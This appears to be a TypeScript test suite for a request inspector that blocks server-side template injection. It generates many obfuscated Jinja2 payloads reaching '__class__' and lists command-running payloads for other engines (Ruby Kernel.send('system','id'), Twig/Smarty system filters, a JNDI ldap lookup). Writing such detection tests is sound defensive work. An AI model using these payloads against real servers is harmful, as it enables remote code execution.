import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'
import { inEachPlace } from './in-each-place.ts'

/** Expressions of Jinja2 that stand for a name, and no text that has it in one piece. */
const NAMES: Readonly<Record<string, (name: string) => string>> = {
  'in one piece': name => `'${name}'`,
  'in two pieces': name => `'${name.slice(0, 5)}'~'${name.slice(5)}'`,
  'as a sum of two pieces': name => `'${name.slice(0, 5)}'+'${name.slice(5)}'`,
  'in two pieces side by side': name => `'${name.slice(0, 5)}' "${name.slice(5)}"`,
  'letter by letter': name => [...name].map(letter => `"${letter}"`).join('~'),
  joined: name => `['${name.slice(0, 5)}','${name.slice(5)}']|join`,
  'joined by a method': name => `''.join(['${name.slice(0, 5)}','${name.slice(5)}'])`,
  'joined from names': name => `dict(${name.slice(0, 5)}=1,${name.slice(5)}=2)|join`,
  backwards: name => `'${[...name].reverse().join('')}'|reverse`,
  'in capitals': name => `'${name.toUpperCase()}'|lower`,
  'with something to take out': name => `'${name.slice(0, 5)}X${name.slice(5)}'|replace('X','')`,
  'from a pattern': name => `'%s${name.slice(2, -2)}%s'|format('__','__')`,
  'from numbers': name => `'${'%c'.repeat(name.length)}'|format(${codesOf(name).join(',')})`,
  'from numbers by a sign': name => `'${'%c'.repeat(name.length)}'%(${codesOf(name).join(',')})`,
  'in hexadecimal numbers': name =>
    `'${codesOf(name)
      .map(code => `\\x${code.toString(16)}`)
      .join('')}'`,
  'in octal numbers': name =>
    `'${codesOf(name)
      .map(code => `\\${code.toString(8)}`)
      .join('')}'`,
  'by the names of characters': name => `'${name.replaceAll('_', '\\N{LOW LINE}')}'`,
  'from the query': () => 'request.args.a',
  'from a header': () => "request['headers']['a']",
  'from a cookie': () => 'request.cookies.get("a")',
}

const KEYS: Readonly<Record<string, (of: string, name: string) => string>> = {
  'in brackets': (of, name) => `${of}[${name}]`,
  'in brackets with spaces': (of, name) => `${of} [ ${name} ]`,
  'by a filter': (of, name) => `${of}|attr(${name})`,
  'by a filter over a list': (of, name) => `[${of}]|map(attribute=${name})|list`,
}

const MARKS: Readonly<Record<string, (expression: string) => string>> = {
  'in braces': expression => `{{${expression}}}`,
  'in braces that take spaces away': expression => `{{- ${expression} -}}`,
  'in a condition': expression => `{%if ${expression}%}x{%endif%}`,
  'in an assignment': expression => `{% set a = ${expression} %}`,
  'behind spaces': expression => `Hello {{${' '.repeat(40)}${expression}\n}}`,
}

describe('a name that a template puts together stays refused', () => {
  for (const [how, put] of Object.entries(NAMES))
    test(how, () => {
      for (const object of ["''", '()', 'x'])
        for (const key of Object.values(KEYS))
          for (const mark of Object.values(MARKS)) refused(mark(key(object, put('__class__'))))
    })

  test('in languages that are not Python', () => {
    for (const value of [
      "<%= []['con'+'structor']['con'+'structor']('return 1')() %>",
      "#{[]['con'+'structor']}",
      "{{range['rotcurtsnoc'|reverse]('return 1')()}}",
      "${''['cla'+'ss']}",
      "{{['id']|map('sys'~'tem')|join}}",
      "<%= Kernel.send('sys'+'tem','id') %>",
    ])
      refused(value)
  })
})

describe('a sum with which people try what a page computes stays refused', () => {
  const marks = [
    '{{*}}',
    '{{{*}}}',
    '{{=*}}',
    '{{:*}}',
    '${*}',
    '#{*}',
    '!{*}',
    '*{*}',
    '<%=*%>',
    '{%print *%}',
  ]
  for (const sum of [
    '7*7',
    '7**7',
    '7*7*7',
    '(7*7)',
    '-7*7',
    "7*'7'",
    '0x7*7',
    '7.0*7',
    '7<<1',
    '7//1',
    '7*7|abs',
  ])
    test(sum, () => {
      for (const mark of marks) refused(mark.replace(/\*(?=\}|%)/, () => sum))
    })
})

describe('a filter that runs a program stays refused', () => {
  for (const value of [
    "{'id'|system}",
    "{assign var=x value='id'|passthru}",
    "{% apply filter('system') %}id{% endapply %}",
    "{{attribute(_self,'env')}}",
    '<#local x="a"?eval>',
    '#if($e.class)1#end',
    '${${:-j}${:-n}${:-d}${:-i}:ldap://e.example/a}',
  ])
    test(value, () => refused(value))
})

describe('templates that name what they show pass', () => {
  for (const value of [
    "{{ items['a'] | join(', ') }}",
    '{{ rows[index + 1].name }}',
    "{{ names | map(attribute='name') | join(', ') }}",
    '{{ user.name | upper }}',
    "{{ 'greeting' | translate }}",
    '${labels.total}',
    '{% if user %}Hello{% endif %}',
    '{{2024-05-01}}',
    '#{issue.title}',
    '<%= name %>',
  ])
    test(value, () => {
      for (const [place, request] of Object.entries(inEachPlace(value)))
        assert.equal(inspect(request).verdict, 'pass', place)
    })
})

function codesOf(name: string): readonly number[] {
  return [...name].map(letter => letter.charCodeAt(0))
}

function refused(value: string): void {
  for (const [place, request] of Object.entries(inEachPlace(value)))
    assert.equal(inspect(request).verdict, 'block', `${place}: ${value}`)
}
